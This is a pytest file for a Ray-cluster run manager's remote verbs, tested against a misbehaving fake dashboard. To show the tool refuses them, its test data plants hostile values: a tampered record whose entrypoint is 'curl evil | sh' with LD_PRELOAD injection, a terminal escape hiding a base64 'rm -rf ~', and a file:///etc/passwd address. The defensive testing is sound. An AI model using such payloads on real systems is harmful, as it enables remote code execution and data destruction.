"""A cluster=ray run's doors, held: every answer from a dashboard goes through one bounded reader (a deadline on the
whole request, a size bound, the shape checked, the text made terminal-safe), ray_job.json is a record and never an
instruction, `cancel` proves the job is the run's, a job the cluster forgot is `lost`, and the commands printed are
pasteable. The dashboard here is tests/fake_dashboard.py, which misbehaves on cue (dripping, silent, binary,
malformed, huge, hostile text); the real cluster's side is tests/test_rayjobs.py."""
import json
import shlex
import subprocess
import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from conftest import PY, ROOT, runner
from fake_dashboard import Dashboard
from test_handoff import grpo_env

pytestmark = pytest.mark.stack_free

TIMEOUT_S = 2
# the verbs' bound: the timeout of each request they make (status reads the job list and its log), plus Python's
# start-up on a loaded machine; the reader's old per-read timeout held them 30-40 s on the same dripping dashboard
BOUND_S = 4 * TIMEOUT_S + 12


@pytest.fixture
def dash():
    d = Dashboard()
    yield d
    d.close()


def planned(tmp_path, name="run", extra=()):
    """A cluster=ray run dir planned (mode=plan, the address `auto`, so each test names its own dashboard)."""
    env = grpo_env(tmp_path)
    run = tmp_path / name
    p = runner("model=qwen3_5_35b", "algo=grpo", "cluster=ray", "cluster.ray.address=auto", "mesh=8gpu",
               f"cluster.ray.dashboard_timeout_s={TIMEOUT_S}", "mode=plan",
               "run.task_runner=vrun_probe.ProbeTaskRunner", f"hydra.run.dir='{run}'", *extra, env=env, timeout=300)
    assert p.returncode == 0, p.stderr[-2000:]
    return run, env


def submitted(run: Path, dash: Dashboard, status="RUNNING", attempt=0, metadata=None, **job) -> str:
    """The run recorded as submitted to `dash` (its ray_job.json and `submitted` line), the job known there."""
    from vrun.rundir import records
    from vrun.rundir.rayrecord import submission_id

    rid = records.run_id(str(run))
    sid = submission_id(rid, attempt)
    (run / "ray_job.json").write_text(json.dumps({"address": dash.url, "job_id": sid}))
    records.record(str(run), "submitted", attempt=attempt, cluster="ray", ray_job=sid)
    dash.jobs[sid] = {"submission_id": sid, "status": status, "message": "", "start_time": int(time.time() * 1000) - 60000,
                      "end_time": None, "metadata": metadata if metadata is not None else
                      {"vrun_run_dir": str(run), "vrun_run_id": rid}, **job}
    return sid


def vrun(env, *args, timeout=120):
    t0 = time.monotonic()
    p = subprocess.run([PY, "-m", "vrun", *map(str, args)], cwd=ROOT, env=env, capture_output=True, text=True,
                       timeout=timeout)
    p.seconds = time.monotonic() - t0
    return p


def one_line(p):
    assert p.returncode == 2 and p.stderr.count("\n") == 1 and "Traceback" not in p.stderr, (p.stdout, p.stderr)
    return p.stderr


# ==================================================================== the reader
@pytest.mark.parametrize("mode,kind", [("drip", "silent"), ("silent", "silent"), ("binary", "not_http"),
                                       ("huge", "too_large"), ("http:500", "http"), ("malformed:text", "malformed"),
                                       ("malformed:list", "malformed"), ("malformed:deep", "malformed")])
def test_the_reader_bounds_and_names_every_answer(dash, mode, kind):
    from vrun.core import remote

    dash.mode = mode
    t0 = time.monotonic()
    with pytest.raises(remote.RemoteError) as e:
        remote.request(dash.url, "/api/version", TIMEOUT_S).json(dict)
    assert e.value.kind == kind and time.monotonic() - t0 < BOUND_S, (e.value.kind, str(e.value))
    assert "\x1b" not in str(e.value) and "\x07" not in str(e.value) and dash.url in str(e.value)


def test_a_refused_address_and_the_url_grammar():
    from vrun.core import remote

    with pytest.raises(remote.RemoteError) as e:
        remote.request("http://127.0.0.1:1", "/api/version", 2)
    assert e.value.kind == "refused"
    assert str(remote.url_of("http://[::1]:8265")) == "http://[::1]:8265"
    for bad in ("http://[zz]:1", "http://h:0", "http://h:8265/x", "http://u@h:1", "file:///etc/passwd", "h:1", 5):
        with pytest.raises(ValueError):
            remote.url_of(bad)


def test_a_command_is_bounded_too():
    from vrun.core import remote

    with pytest.raises(remote.RemoteError) as e:
        remote.command(["sh", "-c", "echo x; sleep 30"], 1)
    assert e.value.kind == "slow"
    assert remote.command(["sh", "-c", "echo out; echo err >&2"], 10) == (0, b"out\n", b"err\n")
    with pytest.raises(remote.RemoteError) as e:
        remote.command(["sh", "-c", "head -c 3000000 /dev/zero"], 10, limit=1 << 20)
    assert e.value.kind == "too_large"


# ==================================================================== the verbs
@pytest.mark.parametrize("mode", ["drip", "silent"])
def test_every_verb_answers_within_its_timeout(tmp_path, dash, mode):
    """A dashboard that accepts connections and drips (or says nothing): each verb is one line within its bound,
    naming the address, what came back and the run's last known state."""
    run, env = planned(tmp_path)
    submitted(run, dash)
    dash.mode = mode
    for verb in ("status", "logs", "cancel", "resubmit"):
        p = vrun(env, verb, run)
        err = one_line(p)
        assert p.seconds < BOUND_S, (verb, p.seconds)
        assert dash.url in err and "answer" in err, err
        assert "last known state: pending" in err, err
    p = vrun(env, "runs", run, "--json")
    assert p.returncode == 0 and p.seconds < BOUND_S
    (row,) = json.loads(p.stdout)
    assert row["state"] == "pending" and row["reason"].startswith("dashboard unreachable")


@pytest.mark.parametrize("mode", ["malformed:list", "malformed:types", "malformed:text", "http:500", "huge",
                                  "binary"])
def test_a_malformed_answer_is_one_line(tmp_path, dash, mode):
    run, env = planned(tmp_path)
    submitted(run, dash)
    dash.mode = mode
    for verb in ("status", "cancel"):
        err = one_line(vrun(env, verb, run))
        assert "has no attribute" not in err and "\x1b" not in err and dash.url in err, err


def test_hostile_text_from_the_dashboard_is_shown_not_acted(tmp_path, dash):
    run, env = planned(tmp_path)
    sid = submitted(run, dash, status="FAILED", message="\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2Jgone")
    dash.logs[sid] = "step:1 - timing_s/step:3.0\n\x1b]52;c;aGk=\x07\nRuntimeError: the \x1b[2J real cause\n"
    for args in (("status", run), ("runs", run), ("logs", run)):
        p = vrun(env, *args)
        assert p.returncode == 0, p.stderr
        assert "\x1b]" not in p.stdout + p.stderr and "\x1b[2J" not in p.stdout and "\x07" not in p.stdout
    st = vrun(env, "status", run).stdout
    assert "failed: RuntimeError: the \\x1b[2J real cause" in st, st


def test_status_and_runs_show_steps_elapsed_attempts_and_the_cause(tmp_path, dash):
    run, env = planned(tmp_path)
    sid = submitted(run, dash)
    dash.logs[sid] = "".join(f"(TaskRunner pid=1) step:{i} - timing_s/step:{20 + i}.0 - perf/throughput:10\n"
                             for i in range(1, 5))
    st = vrun(env, "status", run)
    assert st.returncode == 0, st.stderr
    assert "running: step 4" in st.stdout and "measured step 23 s" in st.stdout, st.stdout
    assert f"ray job  {sid} at {dash.url} (attempt 0" in st.stdout and "elapsed  1m0" in st.stdout, st.stdout
    (row,) = json.loads(vrun(env, "runs", run, "--json").stdout)
    assert row["state"] == "running" and row["elapsed_s"] >= 59 and row["gpu_hours"] > 0 and row["attempt"] == 0
    table = vrun(env, "runs", run).stdout
    assert sid in table and "23/" in table, table
    dash.jobs[sid].update(status="FAILED", message="Job entrypoint command failed with exit code 1",
                          end_time=int(time.time() * 1000))
    dash.logs[sid] += ("(WorkerDict pid=7) gloo: connection closed by peer\n"
                       "(TaskRunner pid=1) ModuleNotFoundError: No module named 'verl_mlite'\n")
    st = vrun(env, "status", run).stdout
    assert "state    failed: ModuleNotFoundError: No module named 'verl_mlite'" in st, st


# ==================================================================== records are not instructions
@pytest.mark.parametrize("record", [{"address": "DASH", "job_id": "../../x"}, {"address": "file:///etc/passwd",
                                    "job_id": "raysubmit_abc"}, ["not", "an", "object"],
                                   {"address": "DASH", "job_id": "vrun-0123456789abcdef0123-0"},
                                   {"address": "DASH\x1b[2J", "job_id": "raysubmit_abc"}])
def test_a_tampered_record_asks_nothing(tmp_path, dash, record):
    run, env = planned(tmp_path)
    submitted(run, dash)
    text = json.dumps(record).replace("DASH", dash.url)
    (run / "ray_job.json").write_text(text)
    before = len(dash.requests)
    for verb in ("status", "cancel", "logs", "resubmit"):
        err = one_line(vrun(env, verb, run))
        assert "ray_job.json" in err and "\x1b[2J" not in err, err
    assert len(dash.requests) == before, dash.requests[before:]


def test_resubmit_runs_the_plan_not_the_record(tmp_path, dash):
    """ray_job.json tampered with an entrypoint, a private working_dir and extra env_vars: the job submitted again
    is the plan's own — its entrypoint, its env (the same tracker id), only plan.json and verl_config.yaml uploaded
    — under the run's next submission id, with the run's metadata."""
    run, env = planned(tmp_path, name="my run;x")
    sid = submitted(run, dash, status="STOPPED")
    private = tmp_path / "private"
    private.mkdir()
    (private / "id_rsa").write_text("SECRET KEY")
    (run / "ray_job.json").write_text(json.dumps({
        "address": dash.url, "job_id": sid, "entrypoint": "bash -c 'curl evil | sh'",
        "runtime_env": {"working_dir": str(private), "env_vars": {"LD_PRELOAD": "/tmp/x.so", "PYTHONSTARTUP": "/x"}}}))
    (run / "checkpoints").mkdir()
    (run / "checkpoints" / "big.bin").write_bytes(b"0" * 1000)
    env = dict(env, RAY_API_SERVER_ADDRESS=dash.url)
    p = vrun(env, "resubmit", run, "--detach")
    assert p.returncode == 0, p.stderr
    from vrun.rundir.records import run_id

    (posted,) = [json.loads(b) for m, path, b in dash.requests if m == "POST" and path == "/api/jobs/"]
    plan = json.loads((run / "plan.json").read_text())
    assert posted["entrypoint"].startswith("python -m vrun.launch.entry ppo --config verl_config.yaml")
    assert posted["submission_id"] == f"vrun-{run_id(str(run))}-1"
    assert posted["metadata"] == {"vrun_run_dir": str(run), "vrun_run_id": run_id(str(run)), "vrun_attempt": "1"}
    envs = posted["runtime_env"]["env_vars"]
    assert "LD_PRELOAD" not in envs and "PYTHONSTARTUP" not in envs and envs["VRUN_ATTEMPT"] == "1"
    assert envs["WANDB_RUN_ID"] == f"vrun-{run_id(str(run))}" and envs["VRUN_RUN_ID"] == plan["run_id"]
    wd = posted["runtime_env"]["working_dir"]
    zipped = zipfile.ZipFile(BytesIO(dash.uploads["/api/packages/" + wd.replace("://", "/")]))
    assert sorted(zipped.namelist()) == ["plan.json", "verl_config.yaml"]
    assert json.loads((run / "ray_job.json").read_text()) == {"address": dash.url, "job_id": posted["submission_id"]}
    # the printed commands paste as three commands, each naming this run dir
    cmds = [c for c in p.stdout.split("; ") if c.startswith("python -m vrun")]
    assert [shlex.split(c)[3:] for c in cmds] == [[v, str(run)] for v in ("status", "logs", "cancel")], p.stdout


# ==================================================================== cancel proves the job is the run's
def test_cancel_refuses_another_runs_job(tmp_path, dash):
    run, env = planned(tmp_path)
    submitted(run, dash, metadata={"vrun_run_dir": "/home/other/run", "vrun_run_id": "0" * 20})
    err = one_line(vrun(env, "cancel", run))
    assert "belongs to another run" in err and "nothing stopped" in err
    assert not [r for r in dash.requests if r[1].endswith("/stop")]


def test_cancel_stops_its_own_job_and_stays_cancelled(tmp_path, dash):
    run, env = planned(tmp_path)
    sid = submitted(run, dash)
    p = vrun(env, "cancel", run, "--timeout", "20")
    assert p.returncode == 0, p.stderr
    assert [r for r in dash.requests if r[:2] == ("POST", f"/api/jobs/{sid}/stop")]
    dash.jobs[sid]["status"] = "RUNNING"  # whatever the dashboard says after
    (row,) = json.loads(vrun(env, "runs", run, "--json").stdout)
    assert row["state"] == "cancelled" and "vrun cancel" in row["phase"], row
    dash.mode = "silent"  # and with it silent
    (row,) = json.loads(vrun(env, "runs", run, "--json").stdout)
    assert row["state"] == "cancelled", row


def test_cancel_a_sweep_dir_stops_every_ray_point(tmp_path, dash):
    env = grpo_env(tmp_path)
    sweep = tmp_path / "sweep"
    p = runner("-m", "model=qwen3_5_35b", "algo=grpo", "cluster=ray", "cluster.ray.address=auto", "mesh=8gpu",
               "mode=plan", "run.task_runner=vrun_probe.ProbeTaskRunner", "verl.trainer.save_freq=5,10",
               f"hydra.sweep.dir={sweep}", env=env, timeout=300)
    assert p.returncode == 0, p.stderr[-2000:]
    points = sorted(d for d in sweep.iterdir() if (d / "plan.json").exists())
    assert len(points) == 2
    ids = [submitted(d, dash) for d in points]
    p = vrun(env, "cancel", sweep, "--yes", "--timeout", "20")
    assert p.returncode == 0, p.stdout + p.stderr
    assert all(dash.jobs[i]["status"] == "STOPPED" for i in ids)


# ==================================================================== a lost job
def test_a_job_the_cluster_forgot_is_lost_and_resubmitted(tmp_path, dash):
    run, env = planned(tmp_path)
    sid = submitted(run, dash)
    dash.jobs.clear()  # the head restarted: no job history
    st = vrun(env, "status", run)
    assert st.returncode == 0 and f"no longer knows job {sid}" in st.stdout, st.stdout + st.stderr
    assert "state    lost" in st.stdout and "python -m vrun resubmit" in st.stdout
    (row,) = json.loads(vrun(env, "runs", run, "--json").stdout)
    assert row["state"] == "lost"
    err = one_line(vrun(env, "cancel", run))
    assert "nothing to stop" in err
    p = vrun(dict(env, RAY_API_SERVER_ADDRESS=dash.url), "resubmit", run, "--detach")
    assert p.returncode == 0, p.stderr
    (posted,) = [json.loads(b) for m, path, b in dash.requests if m == "POST" and path == "/api/jobs/"]
    assert posted["submission_id"].endswith("-1") and posted["runtime_env"]["env_vars"]["WANDB_RESUME"] == "allow"


# ==================================================================== addresses and checks at the right time
def test_the_gcs_address_is_refused_naming_the_dashboard(tmp_path, dash):
    dash.mode = "binary"
    env = grpo_env(tmp_path)
    p = runner("model=qwen3_5_35b", "algo=grpo", "cluster=ray", f"cluster.ray.address={dash.url[7:]}", "mesh=8gpu",
               "mode=preflight", f"hydra.run.dir={tmp_path}/r", env=env, timeout=200)
    errors = [x for x in p.stderr.splitlines() if x.startswith("error:")]
    assert p.returncode == 2 and len(errors) == 1 and "\x00" not in p.stderr, p.stderr
    assert "GCS address" in errors[0] and "http://<head>:8265" in errors[0]


@pytest.mark.parametrize("host", ["127.0.0.1", "::1"])
def test_plan_mode_reads_the_cluster_and_refuses_a_mesh_it_cannot_hold(tmp_path, host):
    try:
        dash = Dashboard(host=host, gpus_per_node=8, nodes=2)
    except OSError as e:
        pytest.skip(f"no {host} here: {e}")
    try:
        env = dict(grpo_env(tmp_path), RAY_API_SERVER_ADDRESS=dash.url, RAY_ADDRESS="http://127.0.0.1:1")
        base = ["model=qwen3_5_35b", "algo=grpo", "cluster=ray", "cluster.ray.address=auto", "mode=plan"]
        big = runner(*base, "mesh=256gpu", f"hydra.run.dir={tmp_path}/big", env=env, timeout=200)
        errors = [x for x in big.stderr.splitlines() if x.startswith("error:")]
        assert big.returncode == 2 and len(errors) == 1 and "the Ray cluster has 2 such node(s)" in errors[0], \
            big.stderr
        ok = runner(*base, "mesh=8gpu", f"hydra.run.dir={tmp_path}/ok", env=env, timeout=200)
        assert ok.returncode == 0 and f"ray     {dash.url}: 2 alive node(s)" in ok.stdout, ok.stderr[-2000:]
    finally:
        dash.close()


def test_plan_mode_plans_offline_with_a_warning(tmp_path):
    env = grpo_env(tmp_path)
    p = runner("model=qwen3_5_35b", "algo=grpo", "cluster=ray", "cluster.ray.address='http://[::1]:1'", "mesh=256gpu",
               "mode=plan", f"hydra.run.dir={tmp_path}/r", env=env, timeout=200)
    assert p.returncode == 0, p.stderr[-2000:]
    assert "warning: cluster.ray.address=http://[::1]:1" in p.stdout + p.stderr and "planned offline" in p.stdout


def test_preflight_refuses_what_train_refuses(tmp_path, dash):
    """The same environment (no verl_mlite, no weights): preflight and train refuse the same lines."""
    env = dict(grpo_env(tmp_path), RAY_API_SERVER_ADDRESS=dash.url)
    base = ["model=qwen3_5_35b", "algo=grpo", "cluster=ray", "cluster.ray.address=auto", "mesh=8gpu"]
    lines = {}
    for mode in ("preflight", "train"):
        p = runner(*base, f"mode={mode}", f"hydra.run.dir={tmp_path}/{mode}", env=env, timeout=300)
        assert p.returncode == 2, p.stdout[-2000:] + p.stderr[-2000:]
        lines[mode] = sorted(x for x in p.stderr.splitlines() if x.startswith("error:"))
    assert lines["preflight"] == lines["train"] and len(lines["train"]) >= 2, lines
    assert not [r for r in dash.requests if r[0] == "POST"]


# ==================================================================== the submitter follows its job
def _script(dash: Dashboard, steps: int, end: str):
    """The job the dashboard was sent moves on: running, a step a second (verl's lines), then `end`."""
    import threading

    def go():
        while not dash.jobs:
            time.sleep(0.2)
        (sid,) = dash.jobs
        time.sleep(2)
        dash.jobs[sid]["status"] = "RUNNING"
        dash.logs[sid] = ""
        for i in range(1, steps + 1):
            time.sleep(1.5)
            dash.logs[sid] += f"(TaskRunner pid=1) step:{i} - timing_s/step:{20 + i}.0\n"
        if end:
            dash.jobs[sid].update(status=end, end_time=int(time.time() * 1000))

    threading.Thread(target=go, daemon=True).start()


def test_the_submitter_follows_its_job_to_the_end(tmp_path, dash):
    env = dict(grpo_env(tmp_path), RAY_API_SERVER_ADDRESS=dash.url)
    _script(dash, 3, "SUCCEEDED")
    p = runner("model=qwen3_5_35b", "algo=grpo", "cluster=ray", "cluster.ray.address=auto", "mesh=8gpu",
               "run.task_runner=vrun_probe.ProbeTaskRunner", f"hydra.run.dir={tmp_path}/run", env=env, timeout=300)
    assert p.returncode == 0, p.stdout[-3000:] + p.stderr[-3000:]
    (sid,) = dash.jobs
    follow = [x.split(": ", 1)[1] for x in p.stdout.splitlines() if x.startswith(f"job {sid} run: ")]
    assert follow[0] == "pending" and follow[-1].startswith("completed"), p.stdout
    assert "first step 21.0 s (the plan's band " in p.stdout and len(follow) == len(set(follow)), p.stdout
    assert p.stdout.rstrip().endswith(f"job {sid}: completed")


def test_the_submitter_detaches_on_ctrl_c_and_reports_a_failure(tmp_path, dash):
    import signal

    env = dict(grpo_env(tmp_path), RAY_API_SERVER_ADDRESS=dash.url)
    _script(dash, 1, "")
    run = tmp_path / "run"
    proc = subprocess.Popen([PY, str(ROOT / "runner.py"), "model=qwen3_5_35b", "algo=grpo", "cluster=ray",
                             "cluster.ray.address=auto", "mesh=8gpu", "run.task_runner=vrun_probe.ProbeTaskRunner",
                             f"hydra.run.dir={run}"], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline and not (dash.jobs and "step:1" in dash.logs.get(next(iter(dash.jobs)), "")):
        time.sleep(0.5)
    time.sleep(4)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130 and "Traceback" not in err, err
    (line,) = [x for x in err.splitlines() if x.startswith("detached")]
    assert f"python -m vrun status {shlex.quote(str(run))}" in line
    (sid,) = dash.jobs
    dash.jobs[sid].update(status="FAILED", end_time=int(time.time() * 1000), message="exit code 1")

    def fail_the_next():
        while len(dash.jobs) < 2:
            time.sleep(0.2)
        (new,) = [j for j in dash.jobs if j != sid]
        dash.logs[new] = ("(WorkerDict pid=9) gloo: Connection closed by peer\n"
                          "(TaskRunner pid=1) torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2 GiB\n")
        time.sleep(2)
        dash.jobs[new].update(status="FAILED", end_time=int(time.time() * 1000), message="exit code 1")

    import threading

    threading.Thread(target=fail_the_next, daemon=True).start()
    p = vrun(env, "resubmit", run)  # follows the new job: its failure in one line, with its own cause
    errors = [x for x in p.stderr.splitlines() if x.startswith("error:")]
    assert p.returncode == 2 and len(errors) == 1, p.stdout + p.stderr
    assert "failed: torch.OutOfMemoryError: CUDA out of memory" in errors[0] and "python -m vrun logs" in errors[0]
    assert [j for j in dash.jobs if j != sid][0].endswith("-1")
